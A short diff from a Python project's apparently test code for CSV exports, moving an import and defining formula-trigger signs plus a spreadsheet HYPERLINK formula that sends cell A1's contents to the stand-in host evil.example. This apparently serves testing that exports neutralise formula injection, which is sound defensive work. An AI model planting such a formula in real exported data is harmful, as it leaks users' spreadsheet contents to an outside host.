@@ -14,7 +14,8 @@ from roadmap.board import Board
 from roadmap.desk.past import as_csv
 from roadmap.evidence import Record, Sought, program
 from roadmap.public.api import api_routes
-from roadmap.public.downloads import FILES, download_routes
+from roadmap.public.downloads import download_routes
+from roadmap.views.data import FILES
 
 SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=")
 FORMULA = '{sign}HYPERLINK("https://evil.example/?x="&A1,"click")'
